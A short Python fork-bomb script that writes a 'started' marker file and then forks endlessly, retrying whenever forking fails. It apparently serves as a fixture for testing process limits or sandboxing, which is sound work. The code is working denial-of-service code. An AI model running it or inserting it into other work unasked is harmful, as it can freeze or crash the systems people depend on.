"""A classic fork bomb: every process forks forever, ignoring failures."""

import os
import time

with open("started", "w") as marker:
    marker.write("yes")
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.001)
